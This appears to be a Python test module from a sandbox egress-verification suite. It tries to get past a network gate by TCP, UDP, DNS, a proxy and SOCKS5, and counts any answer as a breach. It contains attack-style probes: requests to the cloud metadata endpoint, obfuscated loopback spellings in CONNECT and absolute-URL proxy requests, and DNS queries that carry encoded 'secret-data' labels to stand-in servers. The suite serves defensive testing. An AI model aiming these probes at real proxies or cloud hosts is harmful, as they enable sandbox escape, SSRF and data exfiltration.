"""S21: ways out past the gate: addresses, protocols, names, and services on the host's loopback.

On the private wire every TCP connect succeeds, since every address leads to the gate. What counts
is who answers: the gate's refusal, a reset or silence hold; anything a server could have said, and
the battery's own canary on the host above all, got through. The addresses are from TEST-NET-1 and
its like (RFC 5737, RFC 3849): nobody's.
"""

import os
import socket
import struct

from ringfence.verify.prelude import PATIENCE, Tally, answered, exchange, place, together

_NOBODY = ("192.0.2.1", "2001:db8::1")
_PORTS = (22, 25, 53, 80, 443, 853, 3128, 3389, 6667, 8443)
_LINKS = {"lo", "eth0"}
_UDP = (
    ("192.0.2.1", 443), ("192.0.2.1", 123), ("192.0.2.1", 9), ("2001:db8::1", 443),
    ("239.255.255.250", 1900), ("224.0.0.251", 5353), ("255.255.255.255", 67), ("ff02::fb%eth0", 5353),
    ("ff02::1%eth0", 5353), ("fe80::1%eth0", 443),
)  # fmt: skip


def attack(facts):
    """Look at the interfaces; try TCP, UDP, DNS, the proxy port and the host's loopback."""
    tally = Tally()
    names = {name for _, name in socket.if_nameindex()}
    tally.expect("interfaces", names <= _LINKS, ", ".join(sorted(names)))
    tries = [*_tcp(), *((_silent, address, port) for address, port in _UDP), *_dns(), *_host(tally, facts)]
    together(tally, tries)
    finding = tally.finding()
    if finding["held"] and facts.get("gate") and not any("refused with 4" in how for _, how in tally.held):
        return {
            **finding,
            "held": None,
            "evidence": f"the gate never answered, so its decisions were not tried; {finding['evidence']}",
        }
    return finding


def _tcp():
    for address in _NOBODY:
        shown = f"[{address}]" if ":" in address else address
        for port in _PORTS:
            request = b"" if port in {22, 25, 6667} else f"GET / HTTP/1.1\r\nHost: {shown}\r\n\r\n".encode()
            yield answered, f"TCP {shown}:{port}", address, port, request
    metadata = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    yield answered, "cloud metadata service", "169.254.169.254", 80, metadata
    yield answered, "IPv6 link-local", "fe80::1%eth0", 80, metadata


def _silent(tally, address, port):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    end = socket.socket(family, socket.SOCK_DGRAM)
    end.settimeout(0.1)
    try:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        end.connect(place(address, port))
        end.send(b"ringfence-verify")
        answer = end.recv(2048)
    except TimeoutError:
        tally.expect(f"UDP {address}:{port}", True, "no answer")
    except OSError as error:
        tally.expect(f"UDP {address}:{port}", True, os.strerror(error.errno))
    else:
        tally.expect(f"UDP {address}:{port}", False, f"answered: {answer[:40]!r}")
    finally:
        end.close()


def _dns():
    """Ask for names that carry data: of a server on any address, over UDP and TCP, for several types."""
    question = (
        b"".join(
            struct.pack("B", len(part)) + part for part in (b"c2VjcmV0LWRhdGE", b"ringfence-verify", b"test")
        )
        + b"\0"
    )
    for kind, name in ((1, "A"), (28, "AAAA"), (16, "TXT"), (10, "NULL"), (15, "MX"), (65, "HTTPS")):
        query = struct.pack(">HHHHHH", 4660, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", kind, 1)
        for server in ("192.0.2.53", _nameserver()):
            yield _resolved, f"DNS {name} by {server}", server, query
    query = struct.pack(">HHHHHH", 4660, 0x100, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
    yield _resolved_by_stream, struct.pack(">H", len(query)) + query


def _resolved_by_stream(tally, message):
    try:
        answer = exchange("192.0.2.53", 53, message) or b""
    except OSError as error:
        tally.expect("DNS over TCP", True, str(error))
        return
    tally.expect("DNS over TCP", _no_answer(answer[2:]), _answer_text(answer[2:]))


def _nameserver():
    try:
        with open("/etc/resolv.conf", encoding="ascii", errors="replace") as file:
            found = [line.split()[1] for line in file if line.startswith("nameserver ")]
    except OSError:
        found = []
    return found[0] if found else "127.0.0.53"


def _resolved(tally, name, server, query):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    end = socket.socket(family, socket.SOCK_DGRAM)
    end.settimeout(PATIENCE)
    try:
        end.connect((server, 53))
        end.send(query)
        answer = end.recv(4096)
    except TimeoutError:
        tally.expect(name, True, "no answer")
    except OSError as error:
        tally.expect(name, True, os.strerror(error.errno))
    else:
        tally.expect(name, _no_answer(answer), _answer_text(answer))
    finally:
        end.close()


def _no_answer(message):
    """Tell whether a message is an error, or holds no records at all."""
    if len(message) < 12:
        return True
    return struct.unpack_from(">H", message, 6)[0] == 0


def _answer_text(message):
    if len(message) < 12:
        return "no answer"
    flags, _, answers = struct.unpack_from(">HHH", message, 2)
    code = {0: "empty answer", 3: "NXDOMAIN", 5: "REFUSED"}.get(flags & 15, f"code {flags & 15}")
    return code if not answers else f"{answers} records"


def _host(tally, facts):
    """Reach for a server that the battery runs on the host's loopback: directly, and by the gate."""
    port, token = facts.get("canary_port"), facts.get("token", "").encode()
    if not port:
        tally.skip("host loopback", "no canary")
        return []
    spellings = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "::1", "::ffff:127.0.0.1", "100.64.0.1", "fd00:77::1"]
    tries = [
        (answered, f"host loopback as {address}", address, port, b"GET / HTTP/1.0\r\n\r\n", token)
        for address in [*spellings, *facts.get("host_addresses", [])]
    ]
    gate = facts.get("gate")
    if not gate:
        return tries
    for name in (
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "0.0.0.0",
        "2130706433",
        "0x7f.1",
        "127.0.0.1.",
        "169.254.169.254",
    ):
        connect = f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode()
        tries.append((answered, f"CONNECT {name}", gate[0], gate[1], connect, token))
        absolute = f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode()
        tries.append((answered, f"GET http://{name}", gate[0], gate[1], absolute, token))
    socks = b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01" + struct.pack(">H", port)
    return [*tries, (_answered_socks, gate, socks, token)]


def _answered_socks(tally, gate, request, token):
    try:
        answer = exchange(gate[0], gate[1], request) or b""
    except OSError as error:
        tally.expect("SOCKS5 to the host", True, str(error))
        return
    granted = token in answer or answer[2:4] == b"\x05\x00"
    tally.expect("SOCKS5 to the host", not granted, "granted" if granted else "refused")
